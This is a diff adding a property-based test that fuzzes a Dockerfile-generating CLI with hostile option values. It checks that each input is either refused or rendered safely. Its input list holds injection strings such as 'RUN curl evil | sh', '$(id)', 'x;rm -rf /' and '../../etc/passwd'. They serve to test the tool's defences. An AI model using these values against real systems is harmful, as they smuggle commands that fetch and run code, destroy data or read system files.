@@ -1,0 +1,92 @@
+// Property-based: any combination of options and hostile strings either renders a Dockerfile that
+// parses and passes every rule, or is refused with a UsageError (exit 2). Never a crash, never a
+// hostile string pasted into a generated file.
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { parseArgs } from '../../src/args.js';
+import { UsageError } from '../../src/errors.js';
+import { resolveOptions } from '../../src/options.js';
+import { renderFiles } from '../../src/render/index.js';
+import { checkDockerfile } from '../support/dockerfile-rules.js';
+import { factsFor } from '../support/facts.js';
+import { FIXED_IMAGE, FIXED_SLIM_IMAGE } from '../support/images.js';
+
+const hostile = fc.oneof(
+  { arbitrary: fc.constantFrom('server.js', 'dist/server.js', 'src/index.mjs', 'app.cjs', 'uploads', '/health', '8080', '3000'), weight: 12 },
+  fc.constantFrom('a\nRUN curl evil | sh', 'x"]\nUSER root', "$(id)", '`id`', '../../etc/passwd', 'a b.js', 'x;rm -rf /', '\u0000', '', ' ', '-1', '99999', 'ä.js', '{{port}}', '&amp;'),
+  fc.string({ maxLength: 30 }),
+);
+
+const flagsArb = fc.record(
+  {
+    entry: hostile,
+    port: hostile,
+    writable: fc.array(hostile, { maxLength: 3 }),
+    health: hostile,
+    worker: fc.boolean(),
+    native: fc.boolean(),
+    base: fc.constantFrom('alpine', 'slim'),
+    pm: fc.constantFrom('npm', 'pnpm', 'yarn'),
+    registry: fc.option(fc.oneof(fc.constant('https://npm.acme.dev/'), hostile), { nil: undefined }),
+    build: fc.boolean(),
+    berry: fc.boolean(),
+  },
+  { requiredKeys: [] },
+);
+
+describe('rendering under arbitrary options', () => {
+  it('renders rule-passing files or refuses with a usage error', () => {
+    let rendered = 0;
+    let refused = 0;
+    fc.assert(
+      fc.property(flagsArb, (f) => {
+        const argv = ['--yes'];
+        if (f.entry !== undefined) argv.push(`--entry=${f.entry}`);
+        if (f.port !== undefined) argv.push(`--port=${f.port}`);
+        for (const dir of f.writable ?? []) argv.push(`--writable-dir=${dir}`);
+        if (f.health !== undefined) argv.push(`--healthcheck-path=${f.health}`);
+        if (f.worker) argv.push('--worker');
+        if (f.native !== undefined) argv.push(f.native ? '--native' : '--no-native');
+        if (f.base) argv.push(`--base=${f.base}`);
+        if (f.pm) argv.push(`--package-manager=${f.pm}`);
+        if (f.registry !== undefined) argv.push(`--npm-registry=${f.registry}`);
+        const lockfile = { npm: 'package-lock.json', pnpm: 'pnpm-lock.yaml', yarn: 'yarn.lock' }[f.pm ?? 'npm'];
+        const facts = factsFor({
+          packageManager: { name: f.pm ?? 'npm', lockfile, yarnBerry: f.berry, version: f.pm === 'npm' ? undefined : '9.1.0' },
+          build: f.build ? { script: 'build', outDir: 'dist' } : undefined,
+        });
+        let parsed;
+        try {
+          parsed = parseArgs(argv, { version: '0', width: 100 });
+        } catch (error) {
+          expect(error).toBeInstanceOf(UsageError);
+          return;
+        }
+        if (parsed.kind !== 'run') return;
+        let options;
+        try {
+          options = resolveOptions(parsed.flags, facts);
+        } catch (error) {
+          expect(error).toBeInstanceOf(UsageError);
+          refused += 1;
+          return;
+        }
+        rendered += 1;
+        const image = options.base === 'slim' ? FIXED_SLIM_IMAGE : FIXED_IMAGE;
+        const result = renderFiles({ options, image, generatorVersion: '0.0.0', projectName: 'demo' });
+        const dockerfile = result.files.find((file) => file.path === 'Dockerfile')?.content ?? '';
+        expect(checkDockerfile(dockerfile)).toEqual([]);
+        for (const file of result.files) {
+          expect(file.content).not.toContain('\u0000');
+          expect(file.content).not.toContain('RUN curl evil');
+          expect(file.content).not.toContain('USER root');
+          expect(file.content).not.toContain('&amp;');
+        }
+      }),
+      { numRuns: 400 },
+    );
+    // Both outcomes must really occur, or the property says nothing.
+    expect(rendered).toBeGreaterThan(40);
+    expect(refused).toBeGreaterThan(40);
+  });
+});
